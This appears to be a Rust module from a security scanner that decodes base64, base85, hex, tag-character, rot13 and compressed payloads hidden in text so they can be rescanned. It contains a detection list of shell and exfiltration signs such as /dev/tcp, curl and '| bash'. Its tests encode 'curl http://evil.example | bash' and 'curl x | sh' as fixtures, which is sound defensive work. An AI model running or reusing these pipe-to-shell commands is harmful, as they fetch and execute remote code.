//! Encoded payloads: base64 (also split across quoted literals), base85,
//! hex and `\x` escapes, and text spelled in Unicode tag characters. Each
//! is decoded, and kept when it decodes to text, for the engine to scan
//! again.

use std::sync::LazyLock;

use base64::alphabet;
use base64::engine::general_purpose::{GeneralPurpose, GeneralPurposeConfig};
use base64::engine::DecodePaddingMode;
use base64::Engine;
use regex::bytes::{Regex, RegexBuilder};

use super::text::Text;
use super::unicode::tag_ascii;

/// A payload decoded from a text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Payload {
    /// Where its encoded form starts in the text as written.
    pub at: usize,
    /// What it decodes to.
    pub text: String,
    /// How it was encoded (`base64`, `hex`, `tag characters`...).
    pub how: &'static str,
}

/// Most payloads decoded per text.
pub const MAX_PAYLOADS: usize = 128;

fn build(pattern: &str) -> Regex {
    RegexBuilder::new(pattern)
        .unicode(false)
        .multi_line(true)
        .build()
        .expect("decode pattern")
}

/// Base64 runs worth decoding: 20 characters or more.
static BASE64_RUN: LazyLock<Regex> = LazyLock::new(|| build(r"[A-Za-z0-9+/_-]{20,}={0,2}"));
static QUOTED_PIECE: LazyLock<Regex> =
    LazyLock::new(|| build(r#"["']([A-Za-z0-9+/]{4,}={0,2})["']"#));
static DECODER_WORD: LazyLock<Regex> = LazyLock::new(|| {
    build(r"\b(?:base64|b64decode|atob|FromBase64String|base64_decode|decode64|decode_base64)\b")
});
static ESCAPES: LazyLock<Regex> = LazyLock::new(|| build(r"(?:\\x[0-9a-fA-F]{2}){8,}"));
static HEX_RUN: LazyLock<Regex> = LazyLock::new(|| build(r"\b[0-9a-fA-F]{24,}\b"));
static BASE85_ARG: LazyLock<Regex> =
    LazyLock::new(|| build(r#"\b(a85|b85)decode[ \t]*\([ \t]*b?["']([^"'\n]{10,})["']"#));

const STANDARD: GeneralPurpose = GeneralPurpose::new(
    &alphabet::STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);
const URL_SAFE: GeneralPurpose = GeneralPurpose::new(
    &alphabet::URL_SAFE,
    GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);

/// `bytes` as text, when they are text: UTF-8, at least 8 bytes, nearly
/// all printable, with some spacing or punctuation (not a random word).
fn as_text(bytes: Vec<u8>) -> Option<String> {
    // PowerShell's `-EncodedCommand` is UTF-16LE.
    let utf16 = bytes.len() >= 16
        && bytes.len().is_multiple_of(2)
        && bytes.iter().skip(1).step_by(2).all(|&b| b == 0);
    let text = if utf16 {
        let units: Vec<u16> = bytes
            .chunks(2)
            .map(|p| u16::from_le_bytes([p[0], p[1]]))
            .collect();
        String::from_utf16(&units).ok()?
    } else {
        String::from_utf8(bytes).ok()?
    };
    let total = text.chars().count();
    let printable = text
        .chars()
        .filter(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
        .count();
    let spaced = text
        .chars()
        .any(|c| c.is_whitespace() || matches!(c, ';' | '|' | '(' | '/' | '=' | '$'));
    (total >= 8 && printable * 100 >= total * 97 && spaced).then_some(text)
}

/// Base64 `run` decoded to text (the URL-safe alphabet when it uses it).
fn base64_text(run: &[u8]) -> Option<String> {
    let engine = if run.iter().any(|b| matches!(b, b'-' | b'_')) {
        &URL_SAFE
    } else {
        &STANDARD
    };
    let trimmed: Vec<u8> = run.iter().copied().filter(|&b| b != b'=').collect();
    let usable = &trimmed[..trimmed.len() - usize::from(trimmed.len() % 4 == 1)];
    // A quick look at the first 64 characters first: most runs are not
    // base64 of text (hashes, identifiers, images).
    let head = &usable[..usable.len().min(64) / 4 * 4];
    as_text(engine.decode(head).ok()?)?;
    as_text(engine.decode(usable).ok()?)
}

/// Hex digits decoded.
fn hex_bytes(hex: &[u8]) -> Option<Vec<u8>> {
    let digit = |b: u8| (b as char).to_digit(16).map(|d| d as u8);
    hex.chunks(2)
        .map(|p| Some(digit(p[0])? << 4 | digit(*p.get(1)?)?))
        .collect()
}

/// Base85 (`b85`: RFC 1924 alphabet; `a85`: Ascii85) decoded.
fn base85_bytes(text: &[u8], ascii85: bool) -> Option<Vec<u8>> {
    const B85: &[u8] =
        b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~";
    let text: Vec<u8> = text
        .iter()
        .copied()
        .filter(|b| !b.is_ascii_whitespace())
        .collect();
    let text = if ascii85 {
        text.strip_prefix(b"<~")
            .unwrap_or(&text)
            .strip_suffix(b"~>")
            .unwrap_or(&text)
            .to_vec()
    } else {
        text
    };
    let mut out = Vec::new();
    let mut group: Vec<u32> = Vec::new();
    let flush = |group: &mut Vec<u32>, out: &mut Vec<u8>, full: bool| {
        let n = group.len();
        while group.len() < 5 {
            group.push(84);
        }
        let value = group.iter().fold(0u64, |acc, &d| acc * 85 + d as u64);
        let bytes = (value as u32).to_be_bytes();
        out.extend_from_slice(&bytes[..if full { 4 } else { n.saturating_sub(1) }]);
        group.clear();
    };
    for &b in &text {
        if ascii85 && b == b'z' && group.is_empty() {
            out.extend_from_slice(&[0; 4]);
            continue;
        }
        let digit = if ascii85 {
            (b'!'..=b'u').contains(&b).then(|| (b - b'!') as u32)
        } else {
            B85.iter().position(|&c| c == b).map(|p| p as u32)
        }?;
        group.push(digit);
        if group.len() == 5 {
            flush(&mut group, &mut out, true);
        }
    }
    if !group.is_empty() {
        flush(&mut group, &mut out, false);
    }
    Some(out)
}

/// Every payload of `text` that decodes to text.
pub fn payloads(text: &Text<'_>) -> Vec<Payload> {
    let raw = text.raw.as_bytes();
    let mut out = Vec::new();
    for m in BASE64_RUN.find_iter(raw) {
        let run = m.as_bytes();
        let mixed = run.iter().any(u8::is_ascii_digit) as u8
            + run.iter().any(u8::is_ascii_uppercase) as u8
            + run.iter().any(u8::is_ascii_lowercase) as u8;
        if mixed >= 2 {
            if let Some(decoded) = base64_text(run) {
                out.push(Payload {
                    at: m.start(),
                    text: decoded,
                    how: "base64",
                });
            }
        }
        if out.len() >= MAX_PAYLOADS {
            return out;
        }
    }
    split_base64(text, &mut out);
    for m in ESCAPES.find_iter(raw) {
        let hex: Vec<u8> = m
            .as_bytes()
            .chunks(4)
            .flat_map(|c| c[2..].to_vec())
            .collect();
        if let Some(decoded) = hex_bytes(&hex).and_then(as_text) {
            out.push(Payload {
                at: m.start(),
                text: decoded,
                how: "\\x escapes",
            });
        }
    }
    for m in HEX_RUN.find_iter(raw).filter(|m| m.len() % 2 == 0) {
        if let Some(decoded) = hex_bytes(m.as_bytes()).and_then(as_text) {
            out.push(Payload {
                at: m.start(),
                text: decoded,
                how: "hex",
            });
        }
    }
    for caps in BASE85_ARG.captures_iter(raw) {
        let ascii85 = &caps[1] == b"a85";
        if let Some(decoded) = base85_bytes(&caps[2], ascii85).and_then(as_text) {
            out.push(Payload {
                at: caps.get(0).map_or(0, |m| m.start()),
                text: decoded,
                how: "base85",
            });
        }
    }
    tag_payloads(text, &mut out);
    out.truncate(MAX_PAYLOADS);
    out
}

/// Base64 split into quoted pieces (`a="Y3Vy"; b="bCBo..."`) within one
/// script or code block that decodes base64: the pieces joined in order.
fn split_base64(text: &Text<'_>, out: &mut Vec<Payload>) {
    let raw = text.raw.as_bytes();
    let mut pieces: Vec<(usize, &[u8])> = QUOTED_PIECE
        .captures_iter(raw)
        .filter_map(|c| c.get(1).map(|m| (m.start(), m.as_bytes())))
        .collect();
    pieces.truncate(1024);
    let mut i = 0;
    while i < pieces.len() {
        let segment = text.segment(pieces[i].0);
        let j = i + pieces[i..]
            .iter()
            .take_while(|(at, _)| segment.contains(at))
            .count();
        if j - i >= 2 && DECODER_WORD.is_match(&raw[segment.clone()]) {
            let joined: Vec<u8> = pieces[i..j]
                .iter()
                .flat_map(|(_, p)| p.iter().copied())
                .collect();
            if let Some(decoded) = base64_text(&joined) {
                out.push(Payload {
                    at: pieces[i].0,
                    text: decoded,
                    how: "base64 split across literals",
                });
            }
        }
        i = j.max(i + 1);
    }
}

/// Runs of tag characters, read as the ASCII they mirror.
fn tag_payloads(text: &Text<'_>, out: &mut Vec<Payload>) {
    if text.raw.is_ascii() {
        return;
    }
    let mut run: Option<(usize, String)> = None;
    for (i, c) in text
        .raw
        .char_indices()
        .chain(std::iter::once((text.raw.len(), ' ')))
    {
        match tag_ascii(c) {
            Some(a) => run.get_or_insert_with(|| (i, String::new())).1.push(a),
            None => {
                if let Some((at, decoded)) = run.take().filter(|(_, d)| d.len() >= 4) {
                    out.push(Payload {
                        at,
                        text: decoded,
                        how: "tag characters",
                    });
                }
            }
        }
    }
}

/// The longest text a compressed payload is inflated to.
pub const MAX_INFLATED_BYTES: u64 = 1 << 20;

/// What a string literal met in code decodes to, with how: base64 (and
/// gzip or zlib inside it), base32, hex, rot13 and reversed text. Base64,
/// base32 and hex are kept when they decode to text; rot13 and reversal,
/// which turn any text into text, only when the result reads as code
/// that the literal did not.
pub fn literal_payloads(value: &str) -> Vec<(&'static str, String)> {
    let mut out = Vec::new();
    let value = value.trim();
    if value.len() < 8 || value.len() > MAX_INFLATED_BYTES as usize {
        return out;
    }
    let compact: String = value.split_whitespace().collect();
    let b64 = compact.len() >= 12
        && compact
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_'));
    if b64 {
        if let Some(text) = base64_text(compact.as_bytes()) {
            out.push(("base64", text));
        } else if let Some(text) = STANDARD
            .decode(compact.trim_end_matches('='))
            .ok()
            .and_then(|bytes| inflate(&bytes))
        {
            out.push(("gzip in base64", text));
        }
    }
    let b32 = compact.len() >= 16
        && compact
            .bytes()
            .all(|b| b.is_ascii_uppercase() || (b'2'..=b'7').contains(&b) || b == b'=');
    if b32 {
        let padded = format!(
            "{}{}",
            compact.trim_end_matches('='),
            "=".repeat((8 - compact.trim_end_matches('=').len() % 8) % 8)
        );
        if let Some(text) = data_encoding::BASE32
            .decode(padded.as_bytes())
            .ok()
            .and_then(as_text)
        {
            out.push(("base32", text));
        }
    }
    let hex = compact.len() >= 16
        && compact.len().is_multiple_of(2)
        && compact.bytes().all(|b| b.is_ascii_hexdigit());
    if hex {
        if let Some(bytes) = hex_bytes(compact.as_bytes()) {
            match inflate(&bytes) {
                Some(text) => out.push(("gzip in hex", text)),
                None => out.extend(as_text(bytes).map(|t| ("hex", t))),
            }
        }
    }
    let reads_as_code = reads_as_code(value);
    let rot: String = value.chars().map(rot13).collect();
    if !reads_as_code && reads_as_code_now(&rot) {
        out.push(("rot13", rot));
    }
    let reversed: String = value.chars().rev().collect();
    if !reads_as_code && reads_as_code_now(&reversed) {
        out.push(("reversed text", reversed));
    }
    out
}

/// `bytes` inflated (gzip or zlib), bounded, when they are text.
fn inflate(bytes: &[u8]) -> Option<String> {
    use std::io::Read;
    let mut out = Vec::new();
    if bytes.starts_with(&[0x1f, 0x8b]) {
        flate2::read::GzDecoder::new(bytes)
            .take(MAX_INFLATED_BYTES)
            .read_to_end(&mut out)
            .ok()?;
    } else if bytes.first() == Some(&0x78) {
        flate2::read::ZlibDecoder::new(bytes)
            .take(MAX_INFLATED_BYTES)
            .read_to_end(&mut out)
            .ok()?;
    } else {
        return None;
    }
    as_text(out)
}

fn rot13(c: char) -> char {
    match c {
        'a'..='z' => (((c as u8 - b'a') + 13) % 26 + b'a') as char,
        'A'..='Z' => (((c as u8 - b'A') + 13) % 26 + b'A') as char,
        c => c,
    }
}

/// Signs that a text is a command or program.
const CODE_SIGNS: &[&str] = &[
    "http://",
    "https://",
    "/dev/tcp",
    "curl ",
    "wget ",
    "| bash",
    "| sh",
    "|sh",
    "|bash",
    ".ssh/",
    "eval(",
    "exec(",
    "base64 -d",
    "import os",
    "subprocess",
    "/bin/sh",
    "/bin/bash",
    "powershell",
    "Invoke-",
    "require(",
    "child_process",
    "os.system",
    "socket",
];

fn reads_as_code(text: &str) -> bool {
    CODE_SIGNS.iter().any(|s| text.contains(s))
}

fn reads_as_code_now(text: &str) -> bool {
    reads_as_code(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn decoders() {
        assert_eq!(
            base64_text(b"Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgYmFzaA==").as_deref(),
            Some("curl http://evil.example | bash")
        );
        assert_eq!(base64_text(b"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg"), None);
        assert_eq!(hex_bytes(b"6375726c").as_deref(), Some(&b"curl"[..]));
        // base64.b85encode(b"curl x | sh") and base64.a85encode(b"curl x | sh")
        assert_eq!(
            base85_bytes(b"V|8+DAb22rAaiH", false).as_deref(),
            Some(&b"curl x | sh"[..])
        );
        assert_eq!(
            base85_bytes(b"@s)g.+F##V+EM2", true).as_deref(),
            Some(&b"curl x | sh"[..])
        );
    }
}
